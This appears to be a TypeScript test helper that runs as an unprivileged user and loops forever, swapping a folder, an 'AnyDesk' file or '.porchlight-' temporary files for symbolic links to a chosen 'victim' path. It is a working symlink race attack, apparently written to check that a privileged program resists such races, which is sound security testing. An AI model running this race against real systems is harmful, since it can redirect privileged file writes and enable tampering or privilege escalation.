// Runs as an unprivileged user and swaps entries of its folder for a symbolic link until it is killed. Arguments: what to swap (`name`:
// temporary files; `folder`; `file`), the folder, and the link's target.
import { readdirSync, renameSync, symlinkSync, unlinkSync, writeSync } from 'node:fs';
import { join } from 'node:path';

const [swapKind = '', folder = '', victim = ''] = process.argv.slice(2);
const attempt = (act: () => void) => {
  try {
    act();
  } catch {
    // Lost this race.
  }
};
const swap = (path: string) => {
  attempt(() => renameSync(path, `${path}-real`));
  attempt(() => symlinkSync(victim, path));
  attempt(() => unlinkSync(path));
  attempt(() => renameSync(`${path}-real`, path));
};
writeSync(1, 'racing\n');
for (;;) {
  if (swapKind === 'folder') swap(folder);
  if (swapKind === 'file') swap(join(folder, 'AnyDesk'));
  if (swapKind !== 'name') continue;
  for (const name of readdirSync(folder).filter((one) => one.startsWith('.porchlight-'))) {
    attempt(() => unlinkSync(join(folder, name)));
    attempt(() => symlinkSync(victim, join(folder, name)));
  }
}
